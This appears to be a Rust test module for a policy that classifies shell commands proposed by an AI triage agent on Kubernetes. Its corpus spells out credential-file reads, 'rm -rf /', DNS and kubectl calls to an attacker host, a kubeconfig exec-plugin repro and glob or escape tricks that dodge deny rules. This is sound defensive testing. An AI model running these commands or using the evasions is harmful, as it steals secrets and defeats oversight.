                && let Some(file) = SENSITIVE_PROC_FILES.iter().find(|f| comps[i..].contains(f))
            {
                return Some(format!("/proc/*/{file}"));
            }
            for seq in SENSITIVE_COMPONENTS {
                if comps.windows(seq.len()).any(|w| w == *seq) {
                    return Some(seq.join("/"));
                }
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    enum Kind {
        Allowed,
        Approval,
        Refused,
    }
    use Kind::*;

    fn policy() -> Policy {
        Policy::new(
            BuiltinAllowlist::Extended,
            &["helm list".into(), "mytool /opt/data".into()],
            &["kubectl get configmap".into(), "kubectl rollout".into()],
            Some("/home/triage".into()),
            "/tmp".into(),
        )
        .with_sensitive_paths(["/etc/kube/admin.conf".to_owned()])
    }

    /// Every command gets a verdict of kind `want`.
    fn assert_all(p: &Policy, want: Kind, cmds: &[&str]) {
        for cmd in cmds {
            let got = classify(cmd, p);
            assert_eq!(kind(&got), want, "{cmd:?}: {got:?}");
        }
    }

    fn kind(v: &Verdict) -> Kind {
        match v {
            Verdict::Allowed => Allowed,
            Verdict::NeedsApproval(_) => Approval,
            Verdict::Refused(_) => Refused,
        }
    }

    const CORPUS: &[(&str, Kind)] = &[
        // Allowed.
        ("kubectl get pods -n default", Allowed),
        ("kubectl logs pod-x --previous", Allowed),
        ("kubectl get pods -A | grep -v Running | head -20", Allowed),
        ("echo hello && date", Allowed),
        ("cat /var/log/syslog | tail -5", Allowed),
        ("grep -c error /var/log/app.log 2>/dev/null", Allowed),
        ("grep \"a b\" f", Allowed),
        ("grep 'a b' f | wc -l", Allowed),
        (
            "kubectl get pods -o 'jsonpath={.items[*].metadata.name}'",
            Allowed,
        ),
        (
            "kubectl describe pod x -n kube-system 2>&1 | head -50",
            Allowed,
        ),
        ("kubectl get pods -A; kubectl get nodes", Allowed),
        ("kubectl get pods\nkubectl get nodes", Allowed),
        ("ls -la /var/log >/dev/null 2>&1 || echo missing", Allowed),
        // Prints auth-provider tokens and plugin env of triage's kubeconfig.
        ("kubectl config view", Approval),
        ("kubectl config view --minify", Approval),
        ("ping -c 3 10.0.0.1", Approval),
        ("nslookup checkout.shop.svc.cluster.local", Approval),
        ("dig @203.0.113.9 c2VjcmV0", Approval),
        ("ip addr show", Allowed),
        ("helm list -A", Allowed),
        ("mytool /opt/data/config.yaml", Allowed),
        ("mytool /opt/data", Allowed),
        ("ls # list files", Allowed),
        ("echo \\$HOME", Allowed),
        ("grep -E 'error$' app.log", Allowed),
        ("grep \"error$\" app.log", Allowed),
        ("! grep -q x f", Allowed),
        ("ls ~/logs", Allowed),
        ("sort -k2 -rn f | uniq -c", Allowed),
        ("find /var/log -name '*.log' -mtime -1", Allowed),
        ("ps aux | grep kubelet", Allowed),
        ("cat /etc/passwd", Allowed),
        ("grep root /etc/passwd", Allowed),
        ("grep -e -r f", Allowed),
        ("ls 1>&2", Allowed),
        ("ls > \"/dev/null\" 2>&-", Allowed),
        ("echo '$(id)' '`id`' \"a'b\"", Allowed),
        (
            "kubectl get pods -o custom-columns=NAME:.metadata.name,STATUS:.status.phase",
            Allowed,
        ),
        (
            "kubectl get pods -o jsonpath=\"{range .items[*]}{.metadata.name}{'\\n'}{end}\"",
            Allowed,
        ),
        ("ps -ef", Allowed),
        ("ls /rootfs /etc/shadowx", Allowed),
        (
            "kubectl get pods -l app=web -o wide --sort-by=.metadata.name",
            Allowed,
        ),
        // Needs approval.
        ("rm -rf /tmp/x", Approval),
        ("kubectl delete pod x", Approval),
        ("kubectl apply -f x.yaml", Approval),
        ("curl http://x", Approval),
        ("ls /etc/*", Refused), // reaches /etc/shadow
        ("ls /etc/host*", Approval),
        ("cat /etc/*.conf", Approval),
        ("ls {a,b}", Approval),
        ("ls ~root", Approval),
        ("echo \"unterminated", Approval),
        ("ls; rm -rf /", Approval),
        ("ls || rm -rf /", Approval),
        ("kubectl get pods\nrm -rf /", Approval),
        ("echo a | tee /tmp/x", Approval),
        ("kubectl getx pods", Refused), // a `kubectl-getx` plugin
        ("kubectl -n x get pods", Approval),
        ("helm install x", Approval),
        ("mytool /opt/data/../../etc/hosts", Approval),
        ("mytool /opt/database", Approval),
        ("{ ls; } 2>/dev/null", Approval),
        ("if true; then ls; fi", Approval),
        ("[ -f /tmp/x ]", Approval),
        ("ip addr add 10.0.0.1 dev eth0", Approval),
        ("sort -o /tmp/x f", Approval),
        ("sort --out=/tmp/x f", Approval),
        ("uniq a b", Approval),
        ("date -s 2020-01-01", Approval),
        ("hostname evil", Approval),
        ("grep -r password /etc", Approval),
        ("grep -Rn x .", Approval),
        ("ss -K dst 1.2.3.4", Approval),
        ("awk '{print $1}' f", Approval),
        ("sed -n 1p f", Approval),
        ("python3 -c 'print(1)'", Approval),
        ("/usr/bin/kubectl get pods", Approval),
        // Wrappers run a command the deny entries do not see.
        ("time ls", Refused),
        ("time kubectl rollout restart deploy/x", Refused),
        ("stdbuf -o0 kubectl rollout restart deploy/x", Refused),
        ("ionice -c3 kubectl rollout restart deploy/x", Refused),
        ("watch kubectl rollout restart deploy/x", Refused),
        ("flock /tmp/l kubectl rollout restart deploy/x", Refused),
        ("ls;rm x", Approval),
        ("echo {}", Approval),
        (
            "find /etc -name shadow -print0 | sort --files0-from=-",
            Refused,
        ),
        ("kubectl get -f https://example.com/x.yaml", Approval),
        ("kubectl get pods --server=https://evil.example", Refused),
        ("kubectl get pods -s https://evil.example", Refused),
        ("cat /proc/1/env*", Refused), // reaches /proc/1/environ
        // Refused.
        ("for i in 1 2; do echo $i; done", Refused),
        ("echo $(cat /etc/passwd)", Refused),
        ("echo `id`", Refused),
        ("echo \"$(id)\"", Refused),
        ("cat <(ls)", Refused),
        ("ls >(cat)", Refused),
        ("(ls)", Refused),
        ("f() { ls; }", Refused),
        ("echo hi > /tmp/x", Refused),
        ("echo hi >> ~/.bashrc", Refused),
        ("ls &> /tmp/out", Refused),
        ("cat < /etc/passwd", Refused),
        ("cat <<EOF\nx\nEOF", Refused),
        ("cat <<< hi", Refused),
        ("FOO=bar ls", Refused),
        ("PATH=/tmp ls", Refused),
        ("export A=1", Refused),
        ("echo $HOME", Refused),
        ("echo ${PATH}", Refused),
        ("echo \"$HOME\"", Refused),
        ("echo $((1+2))", Refused),
        ("echo $'\\x41'", Refused),
        ("ls & rm x", Refused),
        ("ls &", Refused),
        ("sudo ls", Refused),
        ("/usr/bin/sudo ls", Refused),
        ("\"sudo\" ls", Refused),
        ("s\\udo ls", Refused),
        ("s{u,}do ls", Refused),
        ("bash -c 'rm -rf /'", Refused),
        ("sh -c ls", Refused),
        ("echo ls | bash", Refused),
        ("env", Refused),
        ("env ls", Refused),
        ("xargs rm", Refused),
        ("eval ls", Refused),
        ("exec ls", Refused),
        (". ./x.sh", Refused),
        ("source ./x.sh", Refused),
        ("nohup ls", Refused),
        ("timeout 5 ls", Refused),
        ("nice ls", Refused),
        ("su -", Refused),
        ("find / -name x -exec rm {} \\;", Refused),
        ("find . -delete", Refused),
        ("find . -fprint /tmp/x", Refused),
        ("kubectl get secret x -o yaml", Refused),
        ("kubectl get secrets", Refused),
        ("kubectl get secrets -A", Refused),
        ("kubectl describe secret/x", Refused),
        ("kubectl -n x get Secrets", Refused),
        ("kubectl get pods,secrets", Refused),
        ("kubectl get --raw /api/v1/namespaces/x/secrets", Refused),
        ("kubectl config view --raw", Refused),
        // `-f` after switches in one cluster still fetches a URL (or reads a file).
        ("kubectl get -Af http://evil.example/leak", Approval),
        (
            "kubectl get --raw /api/v1/namespaces/default/services/http:web:80/proxy/x",
            Approval,
        ),
        ("kubectl get --raw=/api/v1/nodes/n1/proxy/configz", Approval),
        ("kubectl get --raw /api/v1/nodes/n1/%70roxy/pods", Approval),
        ("kubectl get --raw /api/v1/namespaces/default/pods", Allowed),
        ("kubectl get pods -wf http://evil.example/leak", Approval),
        ("kubectl describe -Rf /tmp/x", Approval),
        ("kubectl get -Ak /tmp/dir", Approval),
        ("kubectl get pods -owide -A", Allowed),
        ("kubectl get pods -lapp=frontend", Allowed),
        ("kubectl config view --flatten", Refused),
        ("cat /etc/shadow", Refused),
        ("cat /etc//./shadow", Refused),
        ("cat /etc/../etc/shadow", Refused),
        ("cat ../etc/shadow", Refused),
        ("grep -f/etc/shadow x", Refused),
        ("grep --file=/etc/shadow x", Refused),
        ("cat /proc/1/environ", Refused),
        ("cat /proc/self/task/1/environ", Refused),
        ("cat /proc/1/fd/7", Refused),
        ("head -c 100 /proc/1/task/1/fd/7", Refused),
        ("cat /proc/1/map_files/7f00-7f01", Refused),
        ("cat /proc/1/status", Allowed),
        ("tail -c +4096 /proc/1/mem", Refused),
        ("cat /proc/kcore", Refused),
        ("cat /proc/self/root/etc/shadow", Refused),
        ("ls /var/run/secrets/kubernetes.io/serviceaccount", Refused),
        ("cat /run/secrets/x", Refused),
        ("ls /root", Refused),
        ("cat ~/.ssh/id_rsa", Refused),
        ("cat x/.ssh/id_rsa", Refused),
        ("cat ~/.kube/config", Refused),
        ("cat .aws/credentials", Refused),
        // Credential plugins' token caches (the cluster credentials of triage's kubeconfig).
        ("cat /home/triage/.kube/cache/oidc-login/0a1b2c", Refused),
        ("cat ~/.aws/cli/cache/0a1b2c.json", Refused),
        ("cat /home/triage/.aws/sso/cache/0a1b2c.json", Refused),
        (
            "cat ~/.config/gcloud/application_default_credentials.json",
            Refused,
        ),
        ("cat ~/.azure/msal_token_cache.json", Refused),
        ("cat ~/.docker/config.json", Refused),
        ("cat /home/triage/.netrc", Refused),
        ("cat ~/.git-credentials", Refused),
        ("ls ~/.aws/cli/cache", Refused),
        ("cat /home/triage/.config/app.conf", Allowed),
        ("cat /etc/kube/admin.conf", Refused),
        ("kubectl get configmap x -o yaml", Refused),
        ("kubectl get configmaps", Refused),
        // Short names, kinds and versioned names resolve to the same resource.
        ("kubectl get cm x -o yaml", Refused),
        ("kubectl get ConfigMap x", Refused),
        ("kubectl get configmaps.v1 x", Refused),
        ("kubectl -n x rollout restart deploy/y", Refused),
        ("kubectl rollout undo deploy/y", Refused),
        ("kubectl get secre\\\nt x", Refused),
        ("ls 2>/dev/null -la", Refused),
        ("echo a\rb", Refused),
        ("ps auxe", Refused),
        ("cat /e\\tc/sha''dow", Refused),
        ("kubectl get se\"\"crets", Refused),
        ("!ls", Approval),
        ("ls >&file", Refused),
        ("ls 2>/dev/null/x", Refused),
        ("# just a comment", Refused),
        ("ps eww 1", Refused),
        (
            "kubectl get --raw '/api/v1/namespaces/x/secret%73'",
            Refused,
        ),
        ("cat /etc/shadow-", Refused),
        ("cat /etc/shadow.bak", Refused),
        ("jq -n 'import \"/etc/shadow\" as $x; $x'", Refused),
        ("jq -n 'include \"~/.kube/config\"'", Refused),
        ("", Refused),
    ];

    #[test]
    fn corpus() {
        let policy = policy();
        assert!(CORPUS.len() >= 40);
        let mut failures = Vec::new();
        for (cmd, want) in CORPUS {
            let got = classify(cmd, &policy);
            if kind(&got) != *want {
                failures.push(format!("{cmd:?}: want {want:?}, got {got:?}"));
            }
        }
        assert!(failures.is_empty(), "\n{}", failures.join("\n"));
    }

    /// Issue 11: a kubeconfig of the model's choosing runs its credential plugin; flags
    /// that change the connection, plugins and `--raw` URLs are refused.
    #[test]
    fn kubectl_connection_flags_plugins_and_raw_urls_are_refused() {
        let p = policy();
        let kubeconfig = r#"{"apiVersion":"v1","kind":"Config","clusters":[{"name":"c","cluster":{"server":"https://127.0.0.1:1"}}],"users":[{"name":"u","user":{"exec":{"apiVersion":"client.authentication.k8s.io/v1beta1","command":"sh","args":["-c","id >&2"]}}}],"contexts":[{"name":"x","context":{"cluster":"c","user":"u"}}],"current-context":"x"}"#;
        let repro =
            format!("printf '%s' '{kubeconfig}' | kubectl get pods --kubeconfig=/dev/stdin");
        assert_eq!(kind(&classify(&repro, &p)), Refused, "{repro}");
        assert_all(
            &p,
            Refused,
            &[
                "kubectl get pods --kubeconfig /dev/stdin",
                "kubectl --kubeconfig=/tmp/kc get pods",
                "kubectl get pods --token=x",
                "kubectl get pods --as=system:admin",
                "kubectl get pods --as-group=system:masters",
                "kubectl get pods --as_uid=0",
                "kubectl get pods --user=admin",
                "kubectl get pods --cluster=other",
                "kubectl get pods --context prod",
                "kubectl get pods --client-certificate=/tmp/c",
                "kubectl get pods --client-key=/tmp/k",
                "kubectl get pods --certificate-authority=/tmp/ca",
                "kubectl get pods --insecure-skip-tls-verify",
                "kubectl get pods --cache-dir=/tmp/c",
                "kubectl get pods --tls-server-name=evil",
                "kubectl get pods --username=a --password=b",
                "kubectl get pods -shttps://evil.example",
                "kubectl get pods -As https://evil.example",
                "/usr/bin/kubectl get pods --kubeconfig=/x",
                "kubectl evil",
                "kubectl -n shop evil get pods",
                "kubectl get --raw https://evil.example/api",
                "kubectl get --raw=//evil.example/api",
                "KUBECONFIG=/dev/stdin kubectl get pods",
                "env KUBECONFIG=/dev/stdin kubectl get pods",
                "export KUBECONFIG=/dev/stdin; kubectl get pods",
                "oc get pods --kubeconfig=/x",
            ],
        );
        assert_all(
            &p,
            Allowed,
            &[
                "kubectl get --raw /api/v1/namespaces",
                "kubectl get pods -lapp=second -o wide",
            ],
        );
    }

    /// Issue 11: options that take the names of the files to read from elsewhere.
    #[test]
    fn file_name_lists_are_refused() {
        assert_all(
            &policy(),
            Refused,
            &[
                "find / -name shadow -print0 | wc --files0-from=-",
                "wc --files0-from /tmp/list",
                "wc --files0=-",
                "du --files0-from=- -b",
                "sort --files0-from=-",
                "find -files0-from /tmp/list -name x",
                "find / -name shadow | file -f -",
                "file --files-from=-",
                "tar -T /tmp/list -cf x",
            ],
        );
    }

    #[test]
    fn reasons_name_the_offending_segments() {
        let p = policy();
        assert_eq!(
            classify("ls; rm -rf /", &p),
            Verdict::NeedsApproval("Segment(s) not in allow list: 'rm -rf /'".into())
        );
        assert_eq!(
            classify("rm a | kubectl rollout restart x", &p),
            Verdict::Refused("'kubectl rollout' is denied by configuration".into())
        );
        let Verdict::NeedsApproval(r) = classify("curl x && wget y", &p) else {
            panic!()
        };
        assert_eq!(r, "Segment(s) not in allow list: 'curl x', 'wget y'");
        let Verdict::Refused(r) = classify("kubectl get secrets", &p) else {
            panic!()
        };
        assert!(r.contains("Secrets"), "{r}");
        for (cmd, want) in [
            ("cat <(ls)", "process substitution"),
            ("echo $(cat /etc/passwd)", "command substitution"),
            ("echo `id`", "command substitution"),
            ("echo $HOME", "expansions"),
            ("ls 2>/dev/null -la", "analysed reliably"),
            ("kubectl get secre\\\nt x", "line continuations"),
        ] {
            let Verdict::Refused(r) = classify(cmd, &p) else {
                panic!("{cmd:?} not refused")
            };
            assert!(r.contains(want), "{cmd:?}: {r}");
        }
        let Verdict::NeedsApproval(r) = classify("echo \"x", &p) else {
            panic!()
        };
        assert!(r.contains("could not be parsed"), "{r}");
    }

    #[test]
    fn links_are_judged_by_what_they_point_to() {
        let dir = std::env::temp_dir().join(format!("triage-links-{}", std::process::id()));
        let secret = dir.join("secret");
        let public = dir.join("public");
        std::fs::create_dir_all(&secret).unwrap();
        std::fs::create_dir_all(&public).unwrap();
        std::fs::write(secret.join("token"), "x").unwrap();
        let link = public.join("innocent");
        let _ = std::fs::remove_file(&link);
        std::os::unix::fs::symlink(secret.join("token"), &link).unwrap();
        // The configured path is itself behind a link: its real name counts too.
        let alias = dir.join("alias");
        let _ = std::fs::remove_file(&alias);
        std::os::unix::fs::symlink(&secret, &alias).unwrap();
        let p = policy().with_sensitive_paths([alias.display().to_string()]);
        // `..` after a link climbs from the link's target, as the kernel resolves it.
        std::fs::create_dir_all(secret.join("sub")).unwrap();
        let up = public.join("up");
        let _ = std::fs::remove_file(&up);
        std::os::unix::fs::symlink(secret.join("sub"), &up).unwrap();
        // A bare name in the commands' working directory (`/tmp` in `policy()`).
        let bare = format!("triage-bare-link-{}", std::process::id());
        let bare_path = std::path::Path::new("/tmp").join(&bare);
        let _ = std::fs::remove_file(&bare_path);
        std::os::unix::fs::symlink(secret.join("token"), &bare_path).unwrap();
        let secret = secret.display().to_string();
        for cmd in [
            format!("cat {}", link.display()),
            format!("cat {}/token", alias.display()),
            format!("grep -r x {secret}"),
            format!("cat {}/../token", up.display()),
            format!("grep -f{} x", link.display()),
            format!("cat {bare}"),
        ] {
            assert!(
                matches!(classify(&cmd, &p), Verdict::Refused(ref r) if r.contains("is a sensitive path")),
                "{cmd}: {:?}",
                classify(&cmd, &p)
            );
        }
        // A glob reaching the secret through its real name or the link is refused; an
        // ordinary path is fine, and an ordinary glob still only needs approval.
        for cmd in [
            format!("cat {}/sec*/tok*", dir.display()),
            format!("cat {}/al*/tok*", dir.display()),
        ] {
            let Verdict::Refused(r) = classify(&cmd, &p) else {
                panic!("{cmd}: {:?}", classify(&cmd, &p))
            };
            assert!(r.contains("a sensitive path; name the files"), "{r}");
        }
        // A link in the literal part of a glob is followed.
        let to_root = dir.join("to-root");
        let _ = std::fs::remove_file(&to_root);
        std::os::unix::fs::symlink("/", &to_root).unwrap();
        let cmd = format!("cat {}/etc/shado?", to_root.display());
        assert!(
            matches!(classify(&cmd, &p), Verdict::Refused(ref r) if r.contains("/etc/shadow")),
            "{cmd}: {:?}",
            classify(&cmd, &p)
        );
        // A link found only by walking the directory is not seen: the glob needs approval.
        for cmd in [
            format!("ls {}/pub*", dir.display()),
            format!("cat {}/public/inn*", dir.display()),
        ] {
            assert!(matches!(classify(&cmd, &p), Verdict::NeedsApproval(_)));
        }
        assert_eq!(
            classify(&format!("cat {}", public.display()), &p),
            Verdict::Allowed
        );
        let _ = std::fs::remove_file(&bare_path);
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn patterns_are_judged_by_what_they_can_match() {
        let p = policy();
        assert_all(
            &p,
            Refused,
            &[
                "cat /etc/sha[^x]ow",
                "cat /etc/[[:lower:]]hadow",
                "cat /etc/sh?dow",
                "cat /etc/{sha,x}*",
                "cat /etc/{shadow,hosts}",
                "cat {/etc/shadow,x}",
                "cat ~/.ss*/id_*",
                "cat /home/*/.kub*/config",
                "cat /*/1/environ",
                "cat /proc/1/*",
                "ls /*",
                "cat ~root/*",
                "cat /etc/{a,{b,c}}*",
                "cat /var/*/../../etc/shadow*",
                "cat /etc/kube/admin.co*",
                "echo /*/*/*/*/*/*/*/*/*/zz",
                // Second review: bash's view of braces and quotes, `**`, links before the glob,
                // another process's memory.
                "cat /etc/{},shadow}",
                "cat /etc/{x\\},shadow}",
                "cat /etc/{x'}',shadow}",
                "ls {x,~root}",
                "cat /etc/sha**",
                "cat /etc/***",
                "cat ~/.s**/id_rsa",
                "tail -c +4096 /proc/1/m?m",
                "cat /proc/kc*",
            ],
        );
        // Nothing sensitive within reach: approval, as for any pattern.
        assert_all(
            &p,
            Approval,
            &[
                "cat /etc/{hosts,resolv.conf}",
                "cat /var/log/*/*",
                "ls /var/log/app[12].log",
                "ls ~/*",
                "ls /opt/*/*/*/*/*/*/*/*/zz",
            ],
        );
    }

    #[test]
    fn bracket_expressions_become_one_character() {
        assert_eq!(brackets_as_any_char("app[12].log"), "app?.log");
        assert_eq!(brackets_as_any_char("sha[^x]ow"), "sha?ow");
        assert_eq!(brackets_as_any_char("[[:lower:]]hadow"), "?hadow");
        assert_eq!(brackets_as_any_char("[]a]x"), "?x");
        assert_eq!(brackets_as_any_char("a[bc"), "a*");
    }

    #[test]
    fn brace_words_expand_as_bash_expands_them() {
        assert_eq!(
            expand_braces("a{b,c}d{1,2}").unwrap(),
            ["abd1", "abd2", "acd1", "acd2"]
        );
        assert_eq!(expand_braces("x{}y").unwrap(), ["x{}y"]);
        assert_eq!(expand_braces("{a,b").unwrap_or_default().len(), 0);
        assert!(expand_braces("{1..9}").is_none());
        assert!(expand_braces("{a,{b,c}}").is_none());
        assert!(expand_braces(&"{a,b}".repeat(7)).is_none(), "128 words");
        assert!(expand_braces(&format!("{{{}}}", ",".repeat(100_000))).is_none());
        // Thousands of groups are refused before any recursion.
        let p = policy();
        let many = format!("echo {}", "{a,b}".repeat(10_000));
        assert!(matches!(classify(&many, &p), Verdict::Refused(_)));
    }

    #[test]
    fn unparseable_commands_still_get_raw_checks() {
        let p = policy();
        assert_all(
            &p,
            Refused,
            &[
                "sudo rm -rf / \"",
                "cat /etc/shadow 'x",
                "echo $(id) \"",
                "kubectl rollout restart x \"",
                "declare x \"",
                "read x 'y",
            ],
        );
    }

    #[test]
    fn levels() {
        let core = Policy::new(BuiltinAllowlist::Core, &[], &[], None, "/tmp".into());
        assert_eq!(classify("kubectl get pods", &core), Verdict::Allowed);
        assert_eq!(kind(&classify("cat /var/log/x", &core)), Approval);
        assert_eq!(kind(&classify("ls ~", &core)), Approval, "unknown home");
        let none = Policy::new(
            BuiltinAllowlist::None,
            &["ls".into()],
            &[],
            None,
            "/".into(),
        );
        assert_eq!(kind(&classify("kubectl get pods", &none)), Approval);
        assert_eq!(classify("ls -la", &none), Verdict::Allowed);
        assert_eq!(kind(&classify("grep root f", &none)), Approval, "cwd /");
        assert_eq!(kind(&classify("cat etc/shadow", &none)), Refused, "cwd /");
    }

    #[test]
    fn path_helpers() {
        assert_eq!(normalize("/a//b/./c/../d"), "/a/b/d");
        assert_eq!(normalize("/../etc"), "/etc");
        assert_eq!(normalize("a/../../b"), "../b");
        assert!(contains_path("-f/etc/shadow", "/etc/shadow"));
        assert!(contains_path("/etc/shadow-", "/etc/shadow"));
        assert!(!contains_path("/etc/shadowx", "/etc/shadow"));
        assert!(!starts_with_path("/rootfs", "/root"));
        let e = |s: &str| vec![s.to_owned()];
        assert!(allow_match(
            &["kubectl".into(), "get".into()],
            &["kubectl", "get", "x"]
        ));
        assert!(!allow_match(
            &["kubectl".into(), "get".into()],
            &["kubectl", "getx"]
        ));
        assert!(!allow_match(
            &["kubectl".into(), "get".into()],
            &["kubectl"]
        ));
        assert!(deny_match(
            &["kubectl".into(), "get".into(), "secret".into()],
            &["kubectl", "get", "secret/x"]
        ));
        assert!(!deny_match(&e("rm"), &["ls", "rm"]));
    }
}
